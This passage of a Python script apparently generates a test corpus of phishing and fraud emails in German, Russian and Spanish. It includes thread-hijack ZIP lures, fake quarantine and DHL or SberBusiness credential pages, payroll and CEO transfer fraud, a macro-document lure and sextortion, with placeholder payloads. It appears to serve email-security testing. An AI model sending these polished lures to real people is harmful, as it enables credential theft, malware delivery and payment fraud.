www.lieferant-gmbh.de
Amtsgericht Nürnberg HRB 28417 · Geschäftsführer: Klaus Reinhardt
""" % A.fmt_iban(iban11)), Att("Mitteilung_Bankverbindung_Lieferant_GmbH.pdf", pdf11, PDF_CT)))

# ----------------------------------------------------------------------------------------------
# 12 de - thread hijack from the genuinely compromised supplier mailbox, encrypted ZIP with JS
# ----------------------------------------------------------------------------------------------
zip12 = A.zip_archive([("AB_4500187236_Rechnung_Teillieferung.js", A.placeholder_script("js", "a12"), (2026, 11, 25, 14, 2, 18))],
                      password="AB4471", seed="a12")
msg(K, 12, "de", "thread-hijack-zip",
    "Reply-chain hijack sent from the genuinely compromised mailbox of the German supplier (all authentication passes), quoting a real order thread and carrying a password-protected ZIP with a script dropper placeholder.",
    m365("40.107.135.105", dc="BE1", reg="DEU01", tenant="BEZP281MB2830", region="DEUP281", lang="de-DE", attach=True),
    from_=("Maier, Stefan", "s.maier@lieferant-gmbh.de"), to=[("Schneider, Lukas", "l.schneider@example.com")],
    subject="AW: Bestellung 4500187236 – Liefertermin KW 49",
    date="2026-11-25 14:07:52 +0100", charset="windows-1252", cte="base64",
    add_headers=[("In-Reply-To", "<5c1e7a9b0d3f4e2a8b6c9d1e0f2a3b4c@exv-nue-02.corp.example.com>"),
                 ("References", "<5c1e7a9b0d3f4e2a8b6c9d1e0f2a3b4c@exv-nue-02.corp.example.com>")],
    body=Mixed(T("""Hallo Herr Schneider,

anbei wie besprochen die aktualisierte Auftragsbestätigung sowie die Rechnung zur Teillieferung (Pos. 10–30).

Aus Datenschutzgründen haben wir die Dokumente in ein geschütztes Archiv gepackt.
Kennwort zum Öffnen: AB4471

Bitte kurz prüfen und Rückmeldung geben, dann können wir die Restmenge wie geplant in KW 49 verladen.

Mit freundlichen Grüßen

Stefan Maier
Vertriebsinnendienst

Lieferant GmbH
Industriestraße 14 · 90441 Nürnberg
Tel. +49 911 6549-114
www.lieferant-gmbh.de

-----Ursprüngliche Nachricht-----
Von: Schneider, Lukas <l.schneider@example.com>
Gesendet: Dienstag, 17. November 2026 10:42
An: Maier, Stefan <s.maier@lieferant-gmbh.de>
Betreff: Bestellung 4500187236 – Liefertermin KW 49

Hallo Herr Maier,

können Sie uns für die Bestellung 4500187236 (Gehäuseteile, 1.200 Stk.) den Liefertermin KW 49 verbindlich bestätigen? Falls nur eine Teillieferung möglich ist, bitte kurze Info mit Mengen.

Danke und viele Grüße
Lukas Schneider
Einkauf
Example Group GmbH
"""), Att("AB_4500187236.zip", zip12, ZIP_CT)))

# ----------------------------------------------------------------------------------------------
# 13 de - fake quarantine digest from look-alike "mail protection" domain, HTML only
# ----------------------------------------------------------------------------------------------
qurl = "https://example-mailprotect.com/q/release?uid=" + b64url("a.richter@example.com")
rows = [("DATEV eG &lt;noreply@datev.de&gt;", "Lohnabrechnung 11/2026 – Freigabe erforderlich", "26.11.2026 07:41", "7d1a"),
        ("StepStone &lt;bewerbung@stepstone.de&gt;", "Neue Bewerbung: Sachbearbeiter Personal (m/w/d)", "26.11.2026 08:02", "7d1b"),
        ("Techniker Krankenkasse &lt;firmenkunden@tk.de&gt;", "Beitragsnachweis November 2026", "26.11.2026 08:15", "7d1c"),
        ("Deutsche Rentenversicherung &lt;service@drv-bund.de&gt;", "Betriebsprüfung 2027 – Terminbestätigung", "26.11.2026 09:27", "7d1d")]
trs = "".join('<tr><td style="padding:6px;border-bottom:1px solid #ddd">%s</td><td style="padding:6px;border-bottom:1px solid #ddd">%s</td>'
              '<td style="padding:6px;border-bottom:1px solid #ddd">%s</td><td style="padding:6px;border-bottom:1px solid #ddd">'
              '<a href="%s&amp;msg=%s">Freigeben</a> | <a href="%s&amp;msg=%s&amp;a=del">Löschen</a></td></tr>' % (s, b, d, qurl, i, qurl, i)
              for s, b, d, i in rows)
msg(K, 13, "de", "fake-quarantine-digest",
    "Fake spam-quarantine digest in German from a look-alike 'mail protection' domain, listing plausible HR-related held messages with 'Freigeben' links to a credential page.",
    postfix("mail.example-mailprotect.com", "45.137.21.84", rdns="vm2114.servercontrol.nl", sign=False, dmarc=("none", ""), bstyle="generic"),
    from_=("IT-Servicedesk Example Group", "quarantaene@example-mailprotect.com"), to=[S("richter")],
    subject="Spam-Quarantäne: 4 neue Nachrichten für a.richter@example.com zurückgehalten",
    date="2026-11-26 10:00:04 +0100", charset="iso-8859-1", cte="quoted-printable",
    body=H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:13px;color:#222">
<table width="680" cellpadding="0" cellspacing="0" style="border:1px solid #c8c8c8">
<tr><td style="background:#1f3a5f;color:#fff;padding:14px 18px;font-size:16px"><b>Example Group</b> · E-Mail-Sicherheit</td></tr>
<tr><td style="padding:18px">
<p>Guten Tag Frau Richter,</p>
<p>die folgenden Nachrichten an <b>a.richter@example.com</b> wurden von unserem E-Mail-Filter als potenziell unerwünscht eingestuft und in der Quarantäne zurückgehalten. Bitte prüfen Sie, ob es sich um erwartete Nachrichten handelt.</p>
<table width="100%%" cellpadding="0" cellspacing="0" style="font-size:12px">
<tr style="background:#eef2f7"><th align="left" style="padding:6px">Absender</th><th align="left" style="padding:6px">Betreff</th><th align="left" style="padding:6px">Empfangen</th><th align="left" style="padding:6px">Aktion</th></tr>
%s
</table>
<p style="margin-top:18px"><a href="%s&amp;msg=all" style="background:#1f3a5f;color:#fff;padding:8px 16px;text-decoration:none">Alle Nachrichten freigeben</a></p>
<p>Nachrichten, die nicht innerhalb von 72 Stunden freigegeben werden, werden automatisch gelöscht.</p>
<p style="font-size:11px;color:#777">Diese Nachricht wurde automatisch erstellt. Bei Fragen wenden Sie sich an den IT-Servicedesk (Durchwahl 4400).</p>
</td></tr></table></body></html>""" % (trs, qurl)))

# ----------------------------------------------------------------------------------------------
# 14 de - "Gewerberegister" directory offer disguised as official form
# ----------------------------------------------------------------------------------------------
iban14 = A.iban_pl("1090101", "0000000149822637")
pdf14 = A.pdf([[("DGR Deutsches Gewerbe-Register", 15, True), "Erfassungsformular zur Eintragung / Aktualisierung",
                "Az.: DGR-2026-448291", "", ("Vorerfasste Firmendaten (bitte prüfen):", 11, True),
                "Firma: Example Group GmbH", "Ort: 90402 Nürnberg", "Registergericht: Amtsgericht Nürnberg",
                "Branche: Logistik / Großhandel", "Telefon: ____________________   E-Mail: ____________________",
                "Geschäftsführung: ____________________", "", "Zutreffendes bitte ergänzen und unterschrieben zurücksenden.",
                "Rücksendung bis: 07.12.2026  -  per E-Mail an service@dt-gewerberegister.de oder Fax 040 / 3099 7812",
                "", "", "Ort, Datum: ________________   Unterschrift / Firmenstempel: ________________________", "", "", "",
                ("Hinweise zum Auftrag", 8, True),
                ("Mit Ihrer Unterschrift beauftragen Sie die Mediaservice Nord Ltd. mit der Eintragung Ihrer Firmendaten in das", 7, False),
                ("private Online-Verzeichnis DGR. Das Entgelt beträgt jährlich 849,00 EUR zzgl. MwSt., zahlbar im Voraus nach", 7, False),
                ("Rechnungsstellung. Die Vertragslaufzeit beträgt 3 Jahre und verlängert sich jeweils um ein Jahr, sofern nicht", 7, False),
                ("3 Monate vor Ablauf schriftlich gekündigt wird. Dies ist keine amtliche Eintragung. Zahlungen an:", 7, False),
                ("IBAN %s - Mediaservice Nord Ltd. - Gerichtsstand Hamburg." % A.fmt_iban(iban14), 7, False)]],
              title="DGR Erfassungsformular", author="DGR", created=D("2026-11-26 06:10"),
              creator="Writer", producer="LibreOffice 24.8")
msg(K, 14, "de", "gewerberegister-offerte",
    "German 'register entry' offer disguised as an official data-verification form (PDF); the small print commits the signer to a 3-year paid directory listing payable to a foreign IBAN.",
    postfix("mail.dt-gewerberegister.de", "5.9.112.201", rdns="static.201.112.9.5.clients.your-server.de", bstyle="generic",
            mailer=("X-Mailer", "Microsoft Outlook 16.0"), dmarc=("pass", "p=none dis=none")),
    from_=("DGR Deutsches Gewerbe-Register", "service@dt-gewerberegister.de"), to=["info@example.com"],
    subject="Eintragung/Aktualisierung Ihrer Firmendaten – Az. DGR-2026-448291 – Rücksendung bis 07.12.2026",
    date="2026-11-26 07:31:55 +0100", charset="utf-8", cte="quoted-printable",
    body=Mixed(T("""Sehr geehrte Damen und Herren,

zur Aktualisierung Ihres Eintrags im Deutschen Gewerbe-Register (DGR) übersenden wir Ihnen anbei das Erfassungsformular zu Ihrer Firma

    Example Group GmbH
    Nürnberg
    Az.: DGR-2026-448291

Bitte prüfen Sie die vorerfassten Daten, ergänzen Sie fehlende Angaben und senden Sie das Formular unterschrieben per E-Mail oder Fax an uns zurück. Nur vollständige Einträge können in der Online-Firmensuche berücksichtigt werden.

Rücksendefrist: 07.12.2026

Mit freundlichen Grüßen
Ihr DGR-Eintragungsservice

DGR Deutsches Gewerbe-Register – ein Angebot der Mediaservice Nord Ltd.
Postfach 10 12 44 · 20008 Hamburg
"""), Att("DGR_Erfassungsformular_448291.pdf", pdf14, PDF_CT)))

# ----------------------------------------------------------------------------------------------
# 15 de - payroll diversion, display-name spoof of a colleague from GMX, 8bit
# ----------------------------------------------------------------------------------------------
iban15 = A.iban("DE", "10011001" + "2638104752")
msg(K, 15, "de", "payroll-diversion-gmx",
    "Payroll-diversion attempt: display-name spoof of a purchasing colleague writing from a private GMX address, asking HR to switch his salary to a new neobank IBAN before the November run.",
    gmx(client_ip="91.64.183.20"),
    from_=("Lukas Schneider", "lukas.schneider.nbg@gmx.de"), to=[("Anja Richter", "a.richter@example.com")],
    subject="Neue Bankverbindung für mein Gehalt", date="2026-11-26 12:48:03 +0100",
    charset="iso-8859-1", cte="8bit",
    msgid="<trinity-6f2d1a8c-3b4e-4c97-a1d0-92e7b5c3f418-1764157683027@3c-app-gmx-bap47>",
    add_headers=[("Importance", "normal"), ("Sensitivity", "Normal")],
    body=T("""Hallo Anja,

kurze Frage: ich habe meine Bank gewechselt und mein altes Konto wird Ende des Monats aufgelöst. Kannst du die neue Bankverbindung noch für die November-Abrechnung hinterlegen?

Kontoinhaber: Lukas Schneider
IBAN: %s
Bank: N26

Ich bin diese Woche viel bei Lieferanten unterwegs und komme nicht ins Mitarbeiterportal, deshalb schreibe ich dir von meiner privaten Adresse. Gib mir kurz Bescheid, wenn es geklappt hat.

Danke dir und viele Grüße
Lukas
""" % A.fmt_iban(iban15)))

# ----------------------------------------------------------------------------------------------
# 16 de - DHL / customs micro-payment phishing, subdomain trick
# ----------------------------------------------------------------------------------------------
u16 = "https://www.dhl.de.sendungsverfolgung-zoll.info/de/privatkunden/pakete-empfangen/verfolgen.html?piececode=JJD0149027731844"
t16 = """Guten Tag,

Ihre Sendung mit der Sendungsnummer JJD0149027731844 ist im Paketzentrum Feucht eingetroffen. Für die Zustellung ist die Zahlung der Einfuhrabgaben (Zoll / Einfuhrumsatzsteuer) in Höhe von 2,99 € erforderlich.

Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, andernfalls wird die Sendung an den Absender zurückgeschickt.

Jetzt bezahlen: %s

Ihr DHL Paket Team

Dies ist eine automatisch erstellte E-Mail. Bitte antworten Sie nicht auf diese Nachricht.
""" % u16
msg(K, 16, "de", "dhl-zoll-gebuehr",
    "DHL customs micro-fee phishing (2.99 EUR) from a compromised shared-hosting web server with PHPMailer, using a www.dhl.de.<attacker-domain> sub-domain trick.",
    phpmailer("srv47.webspace-hosting24.de", "185.26.156.40", spf="none", dmarc=("none", "")),
    from_=("DHL Paket", "noreply@dhl-zustellung.info"), to=[S("schneider")],
    subject="Ihre Sendung JJD0149027731844: Zustellung ausgesetzt – Zollgebühr 2,99 € offen",
    date="2026-11-27 18:55:12 +0100", charset="utf-8", cte="base64",
    body=Alt(T(t16), H("""<html><body style="font-family:Arial,Helvetica,sans-serif;background:#f5f5f5">
<table width="600" align="center" style="background:#fff"><tr><td style="background:#ffcc00;padding:16px"><b style="color:#d40511;font-size:24px">DHL</b></td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:21px">Guten Tag,<br><br>Ihre Sendung mit der Sendungsnummer <b>JJD0149027731844</b> ist im Paketzentrum Feucht eingetroffen. Für die Zustellung ist die Zahlung der Einfuhrabgaben (Zoll / Einfuhrumsatzsteuer) in Höhe von <b>2,99 €</b> erforderlich.<br><br>Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, andernfalls wird die Sendung an den Absender zurückgeschickt.<br><br>
<a href="%s" style="background:#d40511;color:#fff;padding:10px 20px;text-decoration:none">Jetzt bezahlen</a><br><br>Ihr DHL Paket Team</td></tr>
<tr><td style="padding:12px 20px;font-size:11px;color:#888">Dies ist eine automatisch erstellte E-Mail. Bitte antworten Sie nicht auf diese Nachricht.<br>Deutsche Post AG · Charles-de-Gaulle-Straße 20 · 53113 Bonn</td></tr></table></body></html>""" % u16)))

# ----------------------------------------------------------------------------------------------
# 17 ru - fake tax-office demand, KOI8-R, encrypted ZIP with .exe placeholder
# ----------------------------------------------------------------------------------------------
zip17 = A.zip_archive([("Требование_14-07-38211_перечень_расхождений.pdf.exe", A.placeholder_exe(), (2026, 11, 25, 9, 12, 40))],
                      password="38211", seed="a17")
msg(K, 17, "ru", "fns-trebovanie-zip",
    "Fake Russian tax-office (FNS) VAT-discrepancy demand from a look-alike domain, KOI8-R, with a password-protected ZIP containing a double-extension executable placeholder.",
    postfix("mail.nalog-gov.ru", "91.215.85.142", rdns="", sign=False, dmarc=("none", ""), bstyle="outlook",
            mailer=("X-Mailer", "Microsoft Outlook 16.0"), msgid=lambda r, d, dt: outlook_desktop_msgid(r, d)),
    from_=("ИФНС России № 15 по Санкт-Петербургу", "uvedomlenie@nalog-gov.ru"), to=[S("kuznetsova")],
    subject="Требование о представлении пояснений № 14-07/38211 от 25.11.2026",
    date="2026-11-25 10:14:06 +0300", charset="koi8-r", cte="base64",
    body=Mixed(T("""Уважаемый налогоплательщик!

Межрайонной ИФНС России № 15 по Санкт-Петербургу в ходе камеральной налоговой проверки налоговой декларации по налогу на добавленную стоимость за 3 квартал 2026 года выявлены расхождения между сведениями об операциях, отражёнными в декларации, и сведениями, содержащимися в декларациях ваших контрагентов.

На основании пункта 3 статьи 88 Налогового кодекса Российской Федерации Вам необходимо в течение пяти рабочих дней со дня получения настоящего требования представить пояснения или внести соответствующие исправления.

Требование № 14-07/38211 от 25.11.2026 и перечень расхождений направлены во вложении.
В целях защиты персональных данных архив защищён паролем: 38211

Непредставление пояснений в установленный срок влечёт ответственность, предусмотренную статьёй 129.1 НК РФ, а также может являться основанием для приостановления операций по счетам (п. 3 ст. 76 НК РФ).

С уважением,
Отдел камеральных проверок № 2
Межрайонная ИФНС России № 15 по Санкт-Петербургу
"""), Att("Требование_14-07-38211.zip", zip17, ZIP_CT, fname_charset="koi8-r")))

# ----------------------------------------------------------------------------------------------
# 18 ru - reconciliation statement with macro document from compromised counterparty (Yandex 360)
# ----------------------------------------------------------------------------------------------
docm18 = A.docx(["# Акт сверки взаимных расчётов", "за период: 01.01.2026 – 30.11.2026",
                 "между ООО «ТрансСервис» и ООО «Экзампл Груп Рус»", "",
                 "Документ защищён. Для просмотра содержимого нажмите «Разрешить редактирование», затем «Включить содержимое».",
                 "This document is protected. Enable editing and enable content to view."],
                author="buh", title="Акт сверки", created=D("2026-11-26 08:40"), macro=True)
msg(K, 18, "ru", "akt-sverki-docm",
    "Reconciliation-statement lure from a compromised Russian counterparty mailbox on Yandex 360 (authentication passes), windows-1251, with a macro-enabled DOCM placeholder and 'enable content' instructions.",
    yandex(outlook=True),
    from_=("Бухгалтерия ООО «ТрансСервис»", "buh@transservis-spb.ru"), to=[S("kuznetsova")],
    subject="Акт сверки взаиморасчетов за 2026 г. — ООО «ТрансСервис»",
    date="2026-11-26 11:52:30 +0300", charset="windows-1251", cte="quoted-printable",
    body=Mixed(T("""Добрый день!

Направляем Вам акт сверки взаимных расчётов за период с 01.01.2026 по 30.11.2026.
По нашим данным, задолженность в пользу ООО «ТрансСервис» составляет 417 860,00 руб.

Просим проверить, подписать и направить скан в ответном письме до 04.12.2026.

Документ защищён от изменений. Если таблица отображается некорректно, нажмите «Разрешить редактирование», а затем «Включить содержимое» в верхней части окна.

С уважением,
Марина Гусева
главный бухгалтер
ООО «ТрансСервис»
тел. +7 (812) 602-41-77
"""), Att("Акт_сверки_ТрансСервис_2026.docm", docm18, DOCM_CT)))

# ----------------------------------------------------------------------------------------------
# 19 ru - bulk spam for contact databases, KOI8-R HTML only
# ----------------------------------------------------------------------------------------------
msg(K, 19, "ru", "bulk-baza-klientov",
    "Russian bulk spam selling company contact databases and 'inbox-guaranteed' mass mailing, KOI8-R HTML-only, Telegram/WhatsApp contacts.",
    postfix("mx3.biz-baza2027.ru", "194.87.93.17", rdns="194-87-93-17.cloudvps.regruhosting.ru", dmarc=("none", ""), bstyle="generic"),
    from_=("Деловые базы 2027", "info@biz-baza2027.ru"), to=[S("sokolova")],
    subject="Базы клиентов 2027: все юрлица РФ и СНГ + рассылки под ключ",
    date="2026-11-27 06:03:41 +0300", charset="koi8-r", cte="quoted-printable",
    add_headers=[("Precedence", "bulk"), ("List-Unsubscribe", "<mailto:stop@biz-baza2027.ru?subject=STOP>")],
    body=H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=koi8-r"></head>
<body style="font-family:Arial,sans-serif;font-size:14px">
<h2 style="color:#b00000">Клиентские базы 2027 — ноябрьское обновление</h2>
<p>Все организации и ИП России, Казахстана и Беларуси: телефоны, e-mail, ОКВЭД, выручка, ФИО руководителей.</p>
<ul>
<li>База "Логистика и грузоперевозки" — 48 300 компаний — <b>4 900 руб.</b></li>
<li>База "Оптовая торговля" — 212 000 компаний — <b>7 500 руб.</b></li>
<li>Все юрлица РФ (4,1 млн записей) — <b>14 900 руб.</b></li>
<li>E-mail рассылки по вашей базе — от 0,05 руб. за письмо, гарантия попадания во "Входящие"</li>
<li>Проверка контрагентов, выгрузки ЕГРЮЛ, номера руководителей</li>
</ul>
<p style="font-size:18px"><b>Скидка 40% до 05.12!</b></p>
<p>Пишите в Telegram: <a href="https://t.me/baza2027_manager">@baza2027_manager</a> или WhatsApp +7 925 418-22-90</p>
<p style="font-size:10px;color:#888">Вы получили это письмо, так как ваш адрес опубликован в открытых источниках. Чтобы отписаться, ответьте на письмо со словом STOP.</p>
</body></html>"""))

# ----------------------------------------------------------------------------------------------
# 20 ru - sextortion, self-spoof, legacy BTC address
# ----------------------------------------------------------------------------------------------
btc20 = A.btc_legacy("audit16-attack-20")
msg(K, 20, "ru", "sextortion-btc",
    "Russian sextortion 'sent from your own mailbox' via a botnet host (SPF/DMARC fail), demanding USD 1,200 to a legacy BTC address within 48 hours.",
    None, helo="[103.151.140.22]", rdns=None, ip="103.151.140.22", tls=None,
    from_=("Алексей Смирнов", "a.smirnov@examplegroup.eu"), mailfrom="a.smirnov@examplegroup.eu", to=[S("smirnov")],
    subject="Ваш аккаунт взломан. Срок — 48 часов.",
    date="2026-11-28 02:41:19 +0700", charset="utf-8", cte="base64",
    auth=AR(spf=("fail", "a.smirnov@examplegroup.eu", "103.151.140.22"), dkim=[("none",)],
            dmarc=("fail", "examplegroup.eu", "p=quarantine dis=quarantine")),
    msgid="<71C0E3A2.4F9B.5D21.8C3E.2A6B1F9D0E47@examplegroup.eu>", bstyle="generic",
    headers=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.2180")],
    body=T("""Здравствуйте!

У меня для вас плохие новости. Несколько месяцев назад я получил доступ к устройствам, с которых вы выходите в интернет, в том числе к вашему рабочему почтовому ящику a.smirnov@examplegroup.eu — как видите, это письмо отправлено с вашего собственного адреса.

Я установил вредоносную программу, которая записала видео с вашей веб-камеры и экрана в тот момент, когда вы посещали сайты для взрослых. Также у меня есть вся ваша переписка и список контактов, включая коллег и партнёров.

Если вы хотите, чтобы я удалил все материалы, переведите 1200 USD в биткоинах на мой кошелёк:

%s

Если не знаете, как купить биткоин, — наберите в поисковике «купить биткоин». У вас 48 часов с момента прочтения этого письма (я вижу, когда оно открыто). Если оплаты не будет, видео получат все ваши контакты.

Не пытайтесь отвечать на это письмо и обращаться в полицию — это бесполезно.
""" % btc20))

# ----------------------------------------------------------------------------------------------
# 21 ru - fake Sber Business 115-FZ restriction phishing
# ----------------------------------------------------------------------------------------------
u21 = "https://sbi.sberbank.ru.client-verify115.online/ics/login?org=7802941736&t=c1f9a7e2"
t21 = """Уважаемый клиент!

В рамках исполнения требований Федерального закона № 115-ФЗ операции по расчётному счёту вашей организации ООО «ЭКЗАМПЛ ГРУП РУС» (ИНН 7802941736) временно ограничены до предоставления актуальных сведений о руководителе и бенефициарных владельцах.

Для снятия ограничений подтвердите данные в течение 24 часов:
%s

При непредставлении сведений банк будет вынужден расторгнуть договор банковского счёта в одностороннем порядке.

С уважением,
СберБизнес
ПАО Сбербанк
""" % u21
msg(K, 21, "ru", "sberbusiness-115fz",
    "Bank phishing impersonating SberBusiness: 'account operations restricted under 115-FZ', windows-1251 multipart/alternative with a sbi.sberbank.ru.<attacker-domain> link.",
    postfix("mail.sberbusiness-online.ru", "45.153.242.10", rdns="", sign=True, dmarc=("none", ""), bstyle="generic"),
    from_=("СберБизнес", "noreply@sberbusiness-online.ru"), to=[S("smirnov")],
    subject="СберБизнес: операции по счёту ограничены (115-ФЗ). Требуется подтверждение данных",
    date="2026-11-30 08:22:17 +0300", charset="windows-1251", cte="base64",
    body=Alt(T(t21), H("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head><body style="font-family:Arial;background:#f2f4f5">
<table width="600" align="center" style="background:#fff;font-size:14px"><tr><td style="background:#21a038;color:#fff;padding:16px;font-size:20px"><b>СберБизнес</b></td></tr>
<tr><td style="padding:20px;line-height:21px">Уважаемый клиент!<br><br>В рамках исполнения требований Федерального закона № 115-ФЗ операции по расчётному счёту вашей организации <b>ООО «ЭКЗАМПЛ ГРУП РУС»</b> (ИНН 7802941736) временно ограничены до предоставления актуальных сведений о руководителе и бенефициарных владельцах.<br><br>
<a href="%s" style="background:#21a038;color:#fff;padding:10px 22px;text-decoration:none;border-radius:4px">Подтвердить данные</a><br><br>При непредставлении сведений в течение 24 часов банк будет вынужден расторгнуть договор банковского счёта в одностороннем порядке.<br><br>С уважением,<br>ПАО Сбербанк</td></tr></table></body></html>""" % u21)))

# ----------------------------------------------------------------------------------------------
# 22 es - fake AEAT notification linking to a ZIP download
# ----------------------------------------------------------------------------------------------
msg(K, 22, "es", "aeat-notificacion-zip",
    "Fake Spanish tax agency (AEAT/DEHú) notification from a look-alike domain via a compromised VPS mailer, linking to a ZIP download (banking-trojan style).",
    phpmailer("vps-4f2a1c.vps.ovh.net", "51.75.146.207", spf="none", dmarc=("none", "")),
    from_=("Agencia Tributaria", "notificaciones@agenciatributaria-gob.es"), to=[S("fernandez")],
    subject="Notificación electrónica pendiente: Requerimiento de información – Ref. 2026GRC48291B",
    date="2026-11-24 09:47:02 +0100", charset="iso-8859-1", cte="quoted-printable",
    body=T("""AGENCIA TRIBUTARIA
Sede Electrónica

Notificación electrónica pendiente de comparecencia

Estimado/a contribuyente:

Le comunicamos que tiene a su disposición en la Dirección Electrónica Habilitada única (DEHú) una notificación relativa al siguiente procedimiento:

Requerimiento de información – Modelo 303 (IVA), 3T 2026
Referencia: 2026GRC48291B
Titular: EXAMPLE GROUP IBERIA, S.L.

Puede descargar el documento en formato comprimido desde el siguiente enlace seguro (disponible durante 48 horas):

https://sede-agenciatributaria.gob.es.notificaciones-dehu.com/descarga/2026GRC48291B.zip

Transcurridos diez días naturales desde la puesta a disposición sin que se acceda a su contenido, se entenderá rechazada la notificación (art. 43.2 de la Ley 39/2015) y se continuará con el procedimiento.

Agencia Estatal de Administración Tributaria
"""))

# ----------------------------------------------------------------------------------------------
# 23 es - CEO/transfer fraud, display-name spoof of the country manager from outlook.es
# ----------------------------------------------------------------------------------------------
iban23 = A.iban_es("0081", "7306", "0001482915")
msg(K, 23, "es", "ceo-transferencia-spoof",
    "Payment-fraud request: display-name spoof of the Spanish country manager from a consumer outlook.es account asking accounting for an urgent confidential transfer to a 'new supplier' IBAN.",
    m365("40.92.66.45", dc="DB3", reg="EUR01", tenant="DB9P194MB1812", region="EURP194", lang="es-ES",
         dmarc_pol="p=none dis=none", consumer=True, xmailer="iPhone Mail (23B85)"),
    from_=("Javier Martínez", "javier.martinez.direccion@outlook.es"), to=[("Lucía Fernández", "l.fernandez@examplegroup.eu")],
    subject="Transferencia hoy - confidencial", date="2026-11-25 12:31:09 +0100",
    charset="windows-1252", cte="quoted-printable",
    body=T("""Lucía, ¿estás en la oficina?

Necesito que gestiones hoy una transferencia a un nuevo proveedor de embalaje con el que hemos cerrado acuerdo esta mañana. Es para asegurar el precio antes de la subida de enero, por eso va con prisa.

Importe: 23.480,00 €
Beneficiario: Envases Técnicos del Mediterráneo, S.L.
IBAN: %s
Concepto: Anticipo pedido 2026-118

La factura proforma te la reenvío mañana, ahora no la tengo a mano. Estoy reunido con el cliente y no puedo atender llamadas; confírmame por aquí cuando esté hecha.

No lo comentes todavía con nadie, lo anunciamos la semana que viene.

Gracias,
Javier

Enviado desde mi iPhone""" % A.fmt_iban(iban23)))

# ----------------------------------------------------------------------------------------------
# 24 es - lottery advance-fee, ISO-8859-15 base64
# ----------------------------------------------------------------------------------------------
msg(K, 24, "es", "loteria-premio",
    "Spanish lottery advance-fee scam ('El Gordo Internacional' prize of 935,470 EUR) with a reply-to agent at a free-mail-style domain requesting processing fees.",
    postfix("mail.loteriainternacional-es.com", "102.129.143.56", rdns="", sign=False, dmarc=("none", ""), bstyle="generic"),
    from_=("Lotería Internacional de España", "premios@loteriainternacional-es.com"),
    reply_to=("Dr. Alberto Ruiz Navarro", "agente.ruiznavarro@consultant.com"), to=[S("ruiz")],
    subject="NOTIFICACIÓN OFICIAL DE PREMIO – Ref. ESP/WIN/008/26",
    date="2026-11-27 22:10:44 +0100", charset="iso-8859-15", cte="base64",
    body=T("""LOTERÍA INTERNACIONAL DE ESPAÑA
Sorteo Especial de Navidad "El Gordo Internacional"
C/ Capitán Haya 53, 28020 Madrid

NOTIFICACIÓN OFICIAL DE PREMIO

Número de referencia: ESP/WIN/008/26
Número de lote: 07/0039/IPD
Boleto ganador: 20-28-31-37-44-46 (serie 7)

Estimado/a ganador/a:

Nos complace comunicarle que su dirección de correo electrónico, seleccionada entre más de 40.000 direcciones de empresas de la Unión Europea mediante nuestro sistema informático de sorteo, ha resultado premiada en la segunda categoría con la suma de 935.470,00 € (novecientos treinta y cinco mil cuatrocientos setenta euros).

Su premio se encuentra depositado en una cuenta de seguridad a su nombre. Para evitar duplicidades, le rogamos mantenga esta notificación en estricta confidencialidad hasta la entrega del premio.

Para iniciar la reclamación, póngase en contacto con su agente asignado antes del 15/12/2026, indicando:

1. Nombre completo y dirección
2. Teléfono y fax
3. Copia de documento de identidad
4. Número de referencia y de lote

Agente asignado: Dr. Alberto Ruiz Navarro
Correo: agente.ruiznavarro@consultant.com
Tel.: +34 631 447 902

Nota: los gastos de tramitación y el seguro del premio (1,5 %) corren a cargo del beneficiario y se abonan antes del desembolso.

Enhorabuena una vez más.

Dña. María Isabel Gómez
Secretaria General
"""))

# ----------------------------------------------------------------------------------------------
# 25 es - fake shop, emoji subject, HTML only
# ----------------------------------------------------------------------------------------------
shop = "https://outlet-zapatillas-es.shop"
prods = [("Nike Air Max 2026", "159,99", "29,99"), ("Adidas Ultraboost 25", "189,95", "34,95"),
         ("New Balance 9060", "169,99", "31,99"), ("Salomon XT-6", "190,00", "39,90")]
cells = "".join('<td width="50%%" style="padding:10px;text-align:center;font-size:14px"><img src="%s/img/p%d.jpg" width="220" alt=""><br><b>%s</b><br>'
                '<s style="color:#999">%s €</s> <b style="color:#e4002b;font-size:18px">%s €</b><br><a href="%s/p/%d?utm_source=mail&amp;utm_campaign=bf26" '
                'style="background:#111;color:#fff;padding:8px 18px;text-decoration:none;display:inline-block;margin-top:6px">Comprar ahora</a></td>'
                % (shop, i, n, o, p, shop, i) + ("</tr><tr>" if i == 1 else "") for i, (n, o, p) in enumerate(prods))
msg(K, 25, "es", "tienda-falsa-black-friday",
    "Fake-shop spam for a Black Friday 'liquidation' of branded trainers at -80% on a throw-away .shop domain, emoji subject, HTML-only with fake trust badges.",
    postfix("mta2.outlet-zapatillas-es.shop", "185.222.58.141", rdns="mta2.outlet-zapatillas-es.shop", dmarc=("pass", "p=none dis=none"), bstyle="generic"),
    from_=("Outlet Deportes", "ofertas@outlet-zapatillas-es.shop"), to=[S("martinez")],
    subject="🔥 Liquidación total: zapatillas de marca -80% solo hasta el domingo",
    date="2026-11-27 19:30:00 +0100", charset="utf-8", cte="quoted-printable",
    add_headers=[("List-Unsubscribe", "<%s/unsub?e=%s>" % (shop, b64url("j.martinez@examplegroup.eu"))), ("Precedence", "bulk")],
    body=H("""<html><head><meta charset="utf-8"></head><body style="margin:0;font-family:Helvetica,Arial,sans-serif;background:#f4f4f4">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#111;color:#fff;text-align:center;padding:14px;font-size:13px">ENVÍO GRATIS · PAGO SEGURO · DEVOLUCIÓN 30 DÍAS</td></tr>
<tr><td style="text-align:center;padding:24px"><h1 style="margin:0;font-size:34px;color:#e4002b">BLACK FRIDAY -80%%</h1><p style="font-size:16px">Cerramos el almacén de Valencia: últimas unidades de marcas originales.</p>
<p style="font-size:14px">⭐⭐⭐⭐⭐ 4,9/5 · 12.874 opiniones verificadas</p></td></tr>
<tr>%s</tr>
